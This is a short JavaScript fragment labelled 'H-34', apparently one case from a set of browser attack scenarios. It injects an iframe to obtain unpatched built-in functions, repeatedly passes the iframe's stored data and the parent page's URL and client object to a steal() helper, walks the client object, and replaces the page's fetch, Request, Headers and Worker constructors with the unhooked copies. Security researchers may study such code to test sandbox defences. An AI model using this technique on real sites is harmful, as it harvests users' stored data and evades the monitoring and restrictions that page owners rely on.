// H-34: a fresh realm, whose functions nobody has replaced or frozen.

for (let round = 0; round < 100 && !document.body; round += 1) await wait(5);
const frame = document.createElement("iframe");
document.body.append(frame);
const scope = frame.contentWindow;
for await (const _ of rounds(40)) {
  steal("storage", await stored(scope));
  steal("parent", scope.parent.location.href, scope.parent.client);
}
walk(scope.parent.client, 20_000);
for (const name of ["fetch", "Request", "Headers", "SharedWorker", "Worker"]) if (scope[name]) window[name] = scope[name];
